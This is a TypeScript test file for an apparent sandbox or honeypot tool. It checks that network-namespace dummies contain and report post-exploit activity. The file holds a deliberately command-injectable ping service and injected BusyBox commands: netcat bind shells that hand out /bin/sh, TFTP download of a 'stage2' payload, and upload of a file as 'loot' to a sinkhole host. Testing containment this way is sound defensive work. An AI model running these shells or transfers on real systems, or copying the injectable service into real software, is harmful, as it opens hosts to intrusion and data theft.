/**
 * What real programs inside a netns dummy do after an exploit, end to end, as observations. The
 * dummy runs a command-injectable ping service (a few lines of node, the pattern of countless
 * router and camera CGIs); each test injects real BusyBox or node commands through it:
 *
 * - a bind shell (`busybox nc -ll -p 4444 -e /bin/sh`) and a UDP listener are `listen`
 *   observations the verdict judges `compromised`, with the owning process; revert closes them
 *   and a fresh baseline reports nothing; `crashtest analyze` of a capture of the injection says
 *   `compromised` with `listen` evidence;
 * - `busybox tftp` downloads (a 1,300-byte file: three blocks from the sink's transfer port) and
 *   uploads over IPv4 and IPv6, and the file the dummy received hashes to what the sink served;
 * - TCP, DNS and ICMPv6 echo to IPv6 addresses land in the same sinks as IPv4.
 *
 * Alongside: tcpdump on the host's own interfaces sees none of it, and the dummy's pcap (taken in
 * the containment namespace) holds the TFTP and IPv6 packets. Needs root, ip, nft, tcpdump,
 * unshare and busybox; skipped with the reason otherwise.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildPcap, synthesizeTcpExchange } from '../../src/capture/index.ts';
import type { EgressEvent } from '../../src/containment/index.ts';
import { Counters, LinkType } from '../../src/core/index.ts';
import { analyzeCaptures, createNetnsFarm, type CrashtestEvent, type NetnsFarm } from '../../src/daemon/index.ts';
import { NetnsDriver } from '../../src/drivers/index.ts';
import type { Observation, Victim } from '../../src/sandbox/index.ts';
import { judge } from '../../src/verdict/index.ts';
import { makeLowerDir, netnsProfile, netnsSkipReason, SERVICE_PORT } from './netns-fixture.ts';

const PING_SERVICE = String.raw`
const http = require('node:http');
const { execFile } = require('node:child_process');
http.createServer((request, response) => {
  const url = new URL(request.url, 'http://dummy');
  if (url.pathname !== '/ping') return response.end('ping service');
  // the bug: the host parameter goes to a shell as it came
  execFile('/bin/sh', ['-c', 'busybox ping -c 1 -W 1 ' + (url.searchParams.get('host') || '127.0.0.1')], { timeout: 20000 }, (error, stdout, stderr) => response.end(stdout + stderr));
}).listen(${SERVICE_PORT});
`;

const peer = { address: '192.0.2.10', port: 40_000 };
const SINKHOLE = '10.13.37.1';
/** documentation-prefix destinations: nothing routes them, and a dummy has no route but the containment */
const V6 = { shell: '2001:db8::7', tftp: '2001:db8::69', dns: '2001:db8::53' };
/** three TFTP blocks (512 + 512 + 276): the last two travel between the client and the sink's transfer port */
const DOWNLOAD = Buffer.from(Array.from({ length: 1_300 }, (_, index) => (index * 31 + 7) & 0xff));
const sha256 = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');

/** Runs `command` in the dummy through the injectable parameter; what the service answered. */
async function inject(victim: Victim, command: string): Promise<string> {
  const connection = await victim.connect(SERVICE_PORT, peer);
  assert.ok(connection, `tcp/${SERVICE_PORT} refused`);
  const answer = await connection.send(Buffer.from(`GET /ping?host=${encodeURIComponent(`127.0.0.1; ${command}`)} HTTP/1.0\r\n\r\n`, 'latin1'));
  await connection.close();
  return Buffer.from(answer).toString('latin1');
}

function egress(victim: Victim): EgressEvent[] {
  return victim.observations().flatMap((seen) => (seen.source === 'containment' ? [seen.event] : []));
}

type Listen = Extract<Extract<Observation, { source: 'dummy' }>['observation'], { kind: 'listen' }>;

function listens(victim: Victim): Listen[] {
  return victim.observations().flatMap((seen) => (seen.source === 'dummy' && seen.observation.kind === 'listen' ? [seen.observation] : []));
}

async function until<T>(what: string, probe: () => T | undefined | false, timeoutMs = 5_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const found = probe();
    if (found) return found;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
}

function namespacesOf(prefix: string): string[] {
  return spawnSync('ip', ['netns', 'list'], { encoding: 'utf8' }).stdout.split('\n').filter((line) => line.startsWith(prefix));
}

const skip = netnsSkipReason() ?? (spawnSync('busybox', ['true']).status === 0 ? null : 'netns egress tests skipped: busybox is not installed (apt-get install busybox-static)');

if (skip !== null) {
  describe('netns dummies: listeners, TFTP and IPv6 egress', () => {
    it(skip, { skip });
  });
} else {
  describe('netns dummies: listeners, TFTP and IPv6 egress', () => {
    const lower = makeLowerDir(PING_SERVICE);
    const serviceSource = Buffer.from(PING_SERVICE);
    const work = mkdtempSync(join(tmpdir(), 'crashtest-netns-egress-'));
    const hostPcap = join(work, 'host-interfaces.pcap');
    const profile = netnsProfile('netns-ping-cgi', {
      vulnerabilities: [
        {
          id: 'ping-cgi-injection',
          cves: [],
          title: 'the ping service passes its host parameter to a shell',
          component: 'ping service',
          access: 'anonymous',
          reachedOn: [{ proto: 'tcp', port: SERVICE_PORT, service: 'http' }],
        },
      ],
    });
    const counters = new Counters();
    const dummies = { [profile.id]: { lowerDir: lower.dir, services: ['exec /usr/bin/node /srv/service.cjs'] } };
    const driver = new NetnsDriver({ dummies, warmSpare: false, answerMs: 15_000, quietMs: 100, maxDwellMs: 1_000, containment: { download: { body: DOWNLOAD } }, counters });
    let hostCapture: ChildProcess | null = null;
    let victim: Victim | null = null;
    let farm: NetnsFarm | null = null;

    before(async () => {
      // the host's own interfaces: anything of a dummy's here would be a containment breach
      const filter = `net 10.213.0.0/16 or net fd00:213::/48 or host ${SINKHOLE} or host ${V6.shell} or host ${V6.tftp} or host ${V6.dns}`;
      hostCapture = spawn('tcpdump', ['-i', 'any', '-n', '-U', '-w', hostPcap, filter], { stdio: ['ignore', 'ignore', 'pipe'] });
      await new Promise<void>((resolve, reject) => {
        let said = '';
        hostCapture!.stderr!.on('data', (chunk: Buffer) => {
          said += chunk.toString();
          if (said.includes('listening on')) resolve();
        });
        hostCapture!.once('exit', (code) => reject(new Error(`tcpdump on the host exited ${code}: ${said}`)));
      });
      victim = await driver.create(profile);
    });

    after(async () => {
      await driver.close();
      await farm?.close();
      hostCapture?.kill('SIGTERM');
      lower.remove();
      rmSync(work, { recursive: true, force: true });
    });

    it('a bind shell is a listen observation with its process, the verdict is compromised, and revert closes it', { timeout: 60_000 }, async () => {
      assert.deepEqual(listens(victim!), [], 'the service itself is in the baseline');
      await inject(victim!, 'busybox nc -ll -p 4444 -e /bin/sh >/dev/null 2>&1 &');
      const [shell] = await until('the bind shell', () => listens(victim!).length > 0 && listens(victim!));
      assert.equal(shell!.proto, 'tcp');
      assert.equal(shell!.port, 4_444);
      assert.match(shell!.origin, /busybox nc -ll -p 4444 -e \/bin\/sh/);
      // it is a real shell: a later connection runs commands in the dummy
      const connection = await victim!.connect(4_444, peer);
      assert.ok(connection, 'the bind shell refused a connection');
      assert.match(Buffer.from(await connection.send(Buffer.from('echo bound-$((6*7))\n'))).toString('latin1'), /bound-42/);
      await connection.close();
      const judgement = judge(victim!.observations());
      assert.equal(judgement.level, 'compromised');
      assert.ok(judgement.evidence.some((item) => item.kind === 'listen' && item.proto === 'tcp' && item.port === 4_444), JSON.stringify(judgement.evidence));
      assert.equal(listens(victim!).length, 1, 'one listener, one observation, however often observations() is read');
      await victim!.revert();
      assert.deepEqual(victim!.observations(), []);
      assert.equal(await victim!.connect(4_444, peer), null, 'the bind shell survived revert');
      await new Promise((resolve) => setTimeout(resolve, 600));
      assert.deepEqual(listens(victim!), [], 'the new baseline reports a listener');
    });

    it('a UDP listener is a listen observation; a TFTP client socket (an ephemeral port) is not', { timeout: 60_000 }, async () => {
      await inject(victim!, `/usr/bin/node -e "require('dgram').createSocket('udp4').bind(1434)" >/dev/null 2>&1 &`);
      const [udp] = await until('the UDP listener', () => listens(victim!).length > 0 && listens(victim!));
      assert.deepEqual({ proto: udp!.proto, port: udp!.port }, { proto: 'udp', port: 1_434 });
      assert.match(udp!.origin, /node -e/);
      await victim!.revert();
    });

    it('busybox tftp downloads over IPv4 from the sink, through its transfer port, byte for byte', { timeout: 60_000 }, async () => {
      const answer = await inject(victim!, `busybox tftp -g -r stage2.bin -l /tmp/stage2.bin ${SINKHOLE} && sha256sum /tmp/stage2.bin`);
      assert.match(answer, new RegExp(sha256(DOWNLOAD)), `the dummy did not receive the whole file: ${answer}`);
      const request = egress(victim!).find((event) => event.facts.kind === 'tftp_request');
      assert.ok(request, JSON.stringify(egress(victim!)));
      assert.deepEqual(request.destination, { address: SINKHOLE, port: 69 });
      assert.deepEqual(request.facts, { kind: 'tftp_request', opcode: 'RRQ', fileName: 'stage2.bin', mode: 'octet' });
      assert.deepEqual(listens(victim!), [], "the TFTP client's socket is no listener");
      await victim!.revert();
    });

    it('busybox tftp uploads over IPv4: the sink receives the whole file', { timeout: 60_000 }, async () => {
      await inject(victim!, `busybox tftp -p -l /srv/service.cjs -r loot.cjs ${SINKHOLE}`);
      const transfer = await until('the upload', () => egress(victim!).find((event) => event.facts.kind === 'tftp_transfer'));
      assert.deepEqual(transfer.facts, { kind: 'tftp_transfer', direction: 'upload', fileName: 'loot.cjs', bytes: serviceSource.length, sha256: sha256(serviceSource), complete: true });
      assert.ok(serviceSource.length > 512, 'the upload needs more than one block');
      await victim!.revert();
    });

    it('IPv6: TCP, DNS, ICMPv6 echo and a TFTP download reach the sinks with their IPv6 destinations', { timeout: 60_000 }, async () => {
      const answer = await inject(
        victim!,
        [
          `busybox nc ${V6.shell} 4444 </dev/null`,
          `busybox nslookup update.example ${V6.dns}`,
          `busybox ping -6 -c 1 -W 2 ${V6.shell}`,
          `busybox tftp -g -r six.bin -l /tmp/six.bin ${V6.tftp} && sha256sum /tmp/six.bin`,
        ].join('; '),
      );
      assert.match(answer, new RegExp(sha256(DOWNLOAD)), `the TFTP download over IPv6 did not complete: ${answer}`);
      const events = egress(victim!);
      const summary = JSON.stringify(events.map((event) => [event.facts.kind, event.destination]));
      assert.ok(events.some((event) => event.facts.kind === 'tcp_connect' && event.destination.address === V6.shell && event.destination.port === 4_444), summary);
      assert.ok(events.some((event) => event.facts.kind === 'dns_query' && event.facts.qname === 'update.example' && event.destination.address === V6.dns && event.destination.port === 53), summary);
      assert.ok(events.some((event) => event.facts.kind === 'icmp_echo' && event.destination.address === V6.shell), summary);
      assert.ok(events.some((event) => event.facts.kind === 'tftp_request' && event.facts.fileName === 'six.bin' && event.destination.address === V6.tftp && event.destination.port === 69), summary);
      assert.equal(judge(victim!.observations()).level, 'compromised');
    });

    it("the dummy's pcap, taken in the containment namespace, holds the TFTP and IPv6 packets", { timeout: 30_000 }, async () => {
      const pcap = (victim as unknown as { pcapPath: string }).pcapPath;
      const printed = (filter: string): string => spawnSync('tcpdump', ['-n', '-r', pcap, filter], { encoding: 'utf8' }).stdout;
      assert.match(printed('ip6 and tcp port 4444'), new RegExp(`${V6.shell}\\.4444`));
      assert.match(printed('udp port 69'), /RRQ "six\.bin"/);
    });

    it('crashtest analyze of a capture of the injection: the bind shell makes the verdict compromised', { timeout: 120_000 }, async () => {
      const attacker = { ip: '203.0.113.66', port: 51_516, mac: '02:00:cb:00:71:42' };
      const server = { ip: '192.0.2.80', port: SERVICE_PORT, mac: '02:00:c0:00:02:50' };
      const request = `GET /ping?host=${encodeURIComponent('127.0.0.1;busybox nc -ll -p 31337 -e /bin/sh >/dev/null 2>&1 &')} HTTP/1.1\r\nHost: ${server.ip}\r\nConnection: close\r\n\r\n`;
      const frames = synthesizeTcpExchange({
        client: attacker,
        server,
        turns: [
          { direction: 'to_server', data: Buffer.from(request, 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 0 } },
          { direction: 'to_client', data: Buffer.from('HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nPING 127.0.0.1', 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 9_000_000 } },
        ],
      });
      const file = join(work, 'ping-injection.pcap');
      writeFileSync(file, buildPcap(LinkType.ETHERNET, frames));
      farm = createNetnsFarm({ profiles: [profile], driver: { dummies, maxDwellMs: 1_000, warmSpare: false } });
      const events: CrashtestEvent[] = [];
      const summary = await analyzeCaptures([file], { onEvent: (event) => events.push(event), farm, catalogue: farm.catalogue, dwellMs: 1_000 });
      const verdicts = summary.result.verdicts;
      assert.equal(verdicts.length, 1, `one verdict expected, got ${verdicts.map((verdict) => verdict.level).join(', ')}`);
      assert.equal(verdicts[0]!.level, 'compromised');
      assert.ok(verdicts[0]!.evidence.some((item) => item.kind === 'listen' && item.port === 31_337), JSON.stringify(verdicts[0]!.evidence));
      assert.equal(verdicts[0]!.evidence.filter((item) => item.kind === 'connect').length, 0, 'the listener alone decided it');
      assert.ok(events.some((event) => event.event_type === 'verdict' && (event as { level?: string }).level === 'compromised'), 'the EVE verdict event says compromised');
    });

    it("tcpdump on the host's own interfaces saw no packet from a dummy, IPv6 and TFTP included", { timeout: 30_000 }, async () => {
      hostCapture!.kill('SIGTERM');
      await new Promise((resolve) => (hostCapture!.exitCode === null ? hostCapture!.once('exit', resolve) : resolve(null)));
      const bytes = readFileSync(hostPcap);
      assert.equal(bytes.length, 24, `the host capture holds packets of a dummy: ${spawnSync('tcpdump', ['-n', '-r', hostPcap], { encoding: 'utf8' }).stdout}`);
    });

    it('teardown leaves no namespace or nft table behind', { timeout: 60_000 }, async () => {
      const prefix = `crashtest-${process.pid}-`;
      await driver.close();
      await farm?.close();
      assert.deepEqual(namespacesOf(prefix), []);
      assert.doesNotMatch(spawnSync('nft', ['list', 'tables'], { encoding: 'utf8' }).stdout, /crashtest/);
      assert.ok(counters.get('netns.listener_scans') > 0, 'no listener scan was counted');
    });
  });
}
